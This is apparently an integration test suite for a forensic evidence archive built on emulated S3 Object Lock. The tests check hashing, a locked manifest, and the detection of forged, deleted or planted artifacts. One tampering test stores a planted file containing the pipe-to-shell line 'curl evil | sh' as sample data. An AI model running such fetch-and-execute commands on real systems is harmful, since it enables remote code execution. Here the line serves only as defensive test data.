/**
 * Evidence archive against the emulator (moto): Object Lock + versioning + KMS bucket,
 * artifacts hashed while streaming (one of them multipart, one in GLACIER), a locked
 * manifest, verification, then tampering.
 *
 * Needs AWS_ENDPOINT_URL (set by the integration global setup). Never runs against AWS.
 */
import { createHash } from "node:crypto";
import { Readable } from "node:stream";
import { CreateKeyCommand, KMSClient } from "@aws-sdk/client-kms";
import {
  CreateBucketCommand,
  DeleteObjectCommand,
  GetObjectRetentionCommand,
  GetObjectTaggingCommand,
  HeadObjectCommand,
  PutBucketEncryptionCommand,
  PutBucketVersioningCommand,
  PutObjectCommand,
  PutObjectLockConfigurationCommand,
  S3Client,
} from "@aws-sdk/client-s3";
import { beforeAll, describe, expect, it } from "vitest";
import { isNotImplemented, toAwsError } from "../../shared/aws/errors.ts";
import { UnsupportedError } from "../../shared/errors/index.ts";
import { archiveArtifact, archiveArtifactWithOutcome } from "../../shared/evidence/archive.ts";
import { EvidenceIntegrityError } from "../../shared/evidence/errors.ts";
import { buildManifest, serializeManifest, writeManifest } from "../../shared/evidence/manifest.ts";
import type { ArtifactRecord } from "../../shared/evidence/manifest-schema.ts";
import { type VerifyItem, verifyIncident } from "../../shared/evidence/verify.ts";

const MiB = 1024 * 1024;

function clients(): { s3: S3Client; kms: KMSClient } {
  const endpoint = process.env.AWS_ENDPOINT_URL;
  if (!endpoint) {
    throw new Error(
      "AWS_ENDPOINT_URL is not set: the integration tests run only against the emulator (moto)",
    );
  }
  const region = process.env.AWS_REGION ?? "us-east-1";
  return {
    s3: new S3Client({ endpoint, region, forcePathStyle: true, maxAttempts: 1 }),
    kms: new KMSClient({ endpoint, region, maxAttempts: 1 }),
  };
}

/** Deterministic pseudo-random bytes (xorshift32), produced chunk by chunk. */
function* patternChunks(size: number, seed: number, chunkSize = 256 * 1024): Generator<Buffer> {
  let x = seed >>> 0 || 1;
  for (let done = 0; done < size; ) {
    const n = Math.min(chunkSize, size - done);
    const buf = Buffer.allocUnsafe(n);
    for (let i = 0; i < n; i++) {
      x ^= x << 13;
      x ^= x >>> 17;
      x ^= x << 5;
      buf[i] = x & 0xff;
    }
    done += n;
    yield buf;
  }
}

function sha256Of(chunks: Iterable<Buffer>): string {
  const h = createHash("sha256");
  for (const c of chunks) h.update(c);
  return h.digest("hex");
}

function byName(items: VerifyItem[], name: string): VerifyItem {
  const item = items.find((i) => i.name === name);
  if (!item) throw new Error(`no item ${name} in ${items.map((i) => i.name).join(", ")}`);
  return item;
}

describe("evidence archive against the emulator", () => {
  let s3: S3Client;
  let kmsKeyId: string;
  let bucket: string;

  beforeAll(async () => {
    const c = clients();
    s3 = c.s3;
    const key = await c.kms.send(new CreateKeyCommand({ Description: "evidence archive test" }));
    kmsKeyId = key.KeyMetadata?.KeyId ?? "";
    bucket = `evidence-it-${Date.now()}`;
    await s3.send(new CreateBucketCommand({ Bucket: bucket, ObjectLockEnabledForBucket: true }));
    await s3.send(
      new PutBucketVersioningCommand({ Bucket: bucket, VersioningConfiguration: { Status: "Enabled" } }),
    );
    await s3.send(
      new PutObjectLockConfigurationCommand({
        Bucket: bucket,
        ObjectLockConfiguration: {
          ObjectLockEnabled: "Enabled",
          Rule: { DefaultRetention: { Mode: "COMPLIANCE", Days: 1 } },
        },
      }),
    );
    await s3.send(
      new PutBucketEncryptionCommand({
        Bucket: bucket,
        ServerSideEncryptionConfiguration: {
          Rules: [
            { ApplyServerSideEncryptionByDefault: { SSEAlgorithm: "aws:kms", KMSMasterKeyID: kmsKeyId } },
          ],
        },
      }),
    );
  });

  /** Archives the standard set of artifacts of one incident and writes its manifest. */
  async function archiveIncident(incidentId: string): Promise<ArtifactRecord[]> {
    const common = { bucket, incidentId, kmsKeyId, collector: "integration-test" };
    const records = [
      await archiveArtifact(s3, {
        ...common,
        name: "instance-description.json",
        body: JSON.stringify({ InstanceId: "i-0123456789abcdef0", State: "running" }),
        contentType: "application/json",
        sourceApiCall: "ec2:DescribeInstances",
      }),
      await archiveArtifact(s3, {
        ...common,
        name: "network/interfaces.json",
        body: Buffer.from(JSON.stringify([{ NetworkInterfaceId: "eni-1" }])),
        contentType: "application/json",
        sourceApiCall: "ec2:DescribeNetworkInterfaces",
      }),
      await archiveArtifact(s3, {
        ...common,
        name: "memory-sample.bin",
        body: Readable.from(patternChunks(20 * MiB, 42)),
        sourceApiCall: "ssm:SendCommand",
      }),
      await archiveArtifact(s3, {
        ...common,
        name: "console-output.txt",
        body: Readable.from(["boot log line 1\n", "boot log line 2\n"]),
        contentType: "text/plain",
        storageClass: "GLACIER",
        sourceApiCall: "ec2:GetConsoleOutput",
      }),
    ];
    const manifest = buildManifest({
      incidentId,
      artifacts: records,
      snapshots: [
        {
          snapshotId: "snap-0123456789abcdef0",
          volumeId: "vol-1",
          deviceName: "/dev/xvda",
          state: "completed",
          tags: [{ Key: "IncidentId", Value: incidentId }],
        },
      ],
      createdAt: new Date(),
    });
    await writeManifest(s3, { bucket, incidentId, manifest, kmsKeyId, retention: { days: 2 } });
    return records;
  }

  it("hashes while streaming, multipart included, and records every witness", async () => {
    const records = await archiveIncident("inc-records");
    const [small, , multipart, glacier] = records as [
      ArtifactRecord,
      ArtifactRecord,
      ArtifactRecord,
      ArtifactRecord,
    ];

    expect(small.sha256).toBe(
      createHash("sha256")
        .update(JSON.stringify({ InstanceId: "i-0123456789abcdef0", State: "running" }))
        .digest("hex"),
    );
    expect(small).toMatchObject({ partCount: 1, sha256Witness: "metadata", storageClass: "STANDARD" });
    expect(small.s3Checksum).toBe(Buffer.from(small.sha256, "hex").toString("base64"));

    expect(multipart).toMatchObject({
      key: "incidents/inc-records/artifacts/memory-sample.bin",
      size: 20 * MiB,
      sha256: sha256Of(patternChunks(20 * MiB, 42)),
      partCount: 3,
      partSize: 8 * MiB,
      sha256Witness: "tag",
    });
    expect(glacier.storageClass).toBe("GLACIER");

    const head = await s3.send(new HeadObjectCommand({ Bucket: bucket, Key: small.key }));
    expect(head.Metadata?.sha256).toBe(small.sha256);
    expect(head.ServerSideEncryption).toBe("aws:kms");
    expect(head.VersionId).toBe(small.versionId);
    const tags = await s3.send(new GetObjectTaggingCommand({ Bucket: bucket, Key: multipart.key }));
    expect(tags.TagSet).toContainEqual({ Key: "sha256", Value: multipart.sha256 });
  });

  it("writes the manifest last, locked in COMPLIANCE mode, and only once", async () => {
    const incidentId = "inc-manifest";
    const record = await archiveArtifact(s3, {
      bucket,
      incidentId,
      name: "a.json",
      body: "{}",
      collector: "t",
      sourceApiCall: "s3:none",
    });
    const manifest = buildManifest({
      incidentId,
      artifacts: [record],
      snapshots: [],
      createdAt: "2026-01-01T00:00:00Z",
    });
    const first = await writeManifest(s3, { bucket, incidentId, manifest, kmsKeyId, retention: { days: 3 } });
    const again = await writeManifest(s3, { bucket, incidentId, manifest, kmsKeyId, retention: { days: 3 } });

    expect(first.outcome).toBe("written");
    expect(again).toMatchObject({ outcome: "reused", versionId: first.versionId });
    const head = await s3.send(new HeadObjectCommand({ Bucket: bucket, Key: first.key }));
    expect(head.ObjectLockMode).toBe("COMPLIANCE");
    const days = ((head.ObjectLockRetainUntilDate?.getTime() ?? 0) - Date.now()) / 86_400_000;
    expect(days).toBeGreaterThan(2.9);
    expect(days).toBeLessThan(3.1);
  });

  it("refuses to write a manifest naming an artifact that is not in the bucket", async () => {
    const incidentId = "inc-phantom";
    const phantom: ArtifactRecord = {
      name: "ghost.json",
      key: `incidents/${incidentId}/artifacts/ghost.json`,
      sha256: "0".repeat(64),
      size: 1,
      storageClass: "STANDARD",
      collectedAt: new Date().toISOString(),
      collector: "t",
      sourceApiCall: "none",
    };
    const manifest = buildManifest({
      incidentId,
      artifacts: [phantom],
      snapshots: [],
      createdAt: new Date(),
    });

    await expect(writeManifest(s3, { bucket, incidentId, manifest })).rejects.toBeInstanceOf(
      EvidenceIntegrityError,
    );
  });

  it("does not write an identical in-memory artifact twice", async () => {
    const input = {
      bucket,
      incidentId: "inc-idem",
      name: "sg.json",
      body: Buffer.from('{"GroupId":"sg-1"}'),
      collector: "t",
      sourceApiCall: "ec2:DescribeSecurityGroups",
    };
    const first = await archiveArtifactWithOutcome(s3, input);
    const second = await archiveArtifactWithOutcome(s3, {
      ...input,
      collectedAt: new Date(Date.now() + 60_000),
    });
    const changed = await archiveArtifactWithOutcome(s3, {
      ...input,
      body: Buffer.from('{"GroupId":"sg-2"}'),
    });

    expect(first.outcome).toBe("written");
    expect(second.outcome).toBe("reused");
    expect(second.record).toEqual(first.record);
    expect(changed.outcome).toBe("written");
    expect(changed.record.versionId).not.toBe(first.record.versionId);
  });

  it("verifies an intact incident, restoring the GLACIER artifact first", async () => {
    const incidentId = "inc-verify";
    await archiveIncident(incidentId);

    const before = await verifyIncident(s3, { bucket, incidentId });
    const requested = await verifyIncident(s3, { bucket, incidentId, restore: true, restoreDays: 1 });
    // The emulator completes restores at once; on AWS this takes hours.
    const after = await verifyIncident(s3, { bucket, incidentId });

    expect(before.ok).toBe(false);
    expect(byName(before.items, "console-output.txt").status).toBe("awaiting-restore");
    expect(before.counts).toMatchObject({
      ok: 4,
      "awaiting-restore": 1,
      mismatch: 0,
      missing: 0,
      unexpected: 0,
    });
    expect(byName(requested.items, "console-output.txt").status).toBe("restore-requested");
    expect(requested.ok).toBe(false);
    expect(after.ok).toBe(true);
    expect(after.counts).toMatchObject({ ok: 5, mismatch: 0, missing: 0, error: 0 });
    expect(after.manifest?.retention?.mode).toBe("COMPLIANCE");
    expect(after.warnings).toEqual([]);
    expect(byName(after.items, "memory-sample.bin").detail).toContain("S3 checksum");
  });

  it("reports an overwritten artifact as mismatch, a deleted one as missing and an extra one as unexpected", async () => {
    const incidentId = "inc-tamper";
    const records = await archiveIncident(incidentId);
    const [small, network] = records as [ArtifactRecord, ArtifactRecord];
    // Object Lock keeps every version; a new version is what GetObject returns by default.
    await s3.send(
      new PutObjectCommand({
        Bucket: bucket,
        Key: small.key,
        Body: '{"State":"forged"}',
        ChecksumAlgorithm: "SHA256",
      }),
    );
    await s3.send(new DeleteObjectCommand({ Bucket: bucket, Key: network.key }));
    await s3.send(
      new PutObjectCommand({
        Bucket: bucket,
        Key: `incidents/${incidentId}/artifacts/planted.sh`,
        Body: "curl evil | sh",
        ChecksumAlgorithm: "SHA256",
      }),
    );

    const report = await verifyIncident(s3, { bucket, incidentId });
    const pinned = await verifyIncident(s3, { bucket, incidentId, pinVersions: true });

    expect(report.ok).toBe(false);
    expect(byName(report.items, "instance-description.json")).toMatchObject({
      status: "mismatch",
      expected: small.sha256,
      actual: createHash("sha256").update('{"State":"forged"}').digest("hex"),
    });
    expect(byName(report.items, "network/interfaces.json").status).toBe("missing");
    expect(byName(report.items, "artifacts/planted.sh").status).toBe("unexpected");
    expect(byName(report.items, "manifest.json").status).toBe("ok");
    // The archived versions themselves are intact, and locked.
    expect(byName(pinned.items, "instance-description.json").status).toBe("ok");
    expect(byName(pinned.items, "network/interfaces.json").status).toBe("ok");
  });

  it("reports a manifest whose content no longer matches its hash", async () => {
    const incidentId = "inc-forged-manifest";
    const record = await archiveArtifact(s3, {
      bucket,
      incidentId,
      name: "a.json",
      body: "{}",
      collector: "t",
      sourceApiCall: "none",
    });
    const manifest = buildManifest({ incidentId, artifacts: [record], snapshots: [], createdAt: new Date() });
    const original = await writeManifest(s3, { bucket, incidentId, manifest });
    const forged = { ...manifest, artifacts: [{ ...record, sha256: "f".repeat(64) }] };
    await s3.send(
      new PutObjectCommand({
        Bucket: bucket,
        Key: `incidents/${incidentId}/manifest.json`,
        Body: serializeManifest(forged),
        ChecksumAlgorithm: "SHA256",
      }),
    );

    const report = await verifyIncident(s3, { bucket, incidentId });
    const againstOriginal = await verifyIncident(s3, {
      bucket,
      incidentId,
      manifestVersionId: original.versionId,
    });

    expect(report.ok).toBe(false);
    expect(byName(report.items, "manifest.json").status).toBe("mismatch");
    expect(byName(report.items, "a.json").status).toBe("mismatch");
    expect(report.warnings.join(" ")).toContain("manifest has 2 versions");
    // The original manifest version is still there, locked, and still vouches for the evidence.
    expect(againstOriginal.ok).toBe(true);
  });

  it("reports a missing manifest and lists what is there as unexpected", async () => {
    const incidentId = "inc-no-manifest";
    await archiveArtifact(s3, {
      bucket,
      incidentId,
      name: "a.json",
      body: "{}",
      collector: "t",
      sourceApiCall: "none",
    });

    const report = await verifyIncident(s3, { bucket, incidentId });

    expect(report.ok).toBe(false);
    expect(byName(report.items, "manifest.json").status).toBe("missing");
    expect(byName(report.items, "artifacts/a.json").status).toBe("unexpected");
  });

  it("maps an operation the emulator lacks to UnsupportedError", async () => {
    const record = await archiveArtifact(s3, {
      bucket,
      incidentId: "inc-gaps",
      name: "a.json",
      body: "{}",
      collector: "t",
      sourceApiCall: "none",
    });
    const err = await s3.send(new GetObjectRetentionCommand({ Bucket: bucket, Key: record.key })).then(
      () => undefined,
      (e: unknown) => e,
    );

    // moto 5.2.1 answers GetObjectRetention with the object itself: the SDK cannot parse it.
    expect(isNotImplemented(err)).toBe(true);
    expect(toAwsError("S3:GetObjectRetention", err)).toBeInstanceOf(UnsupportedError);
  });
});
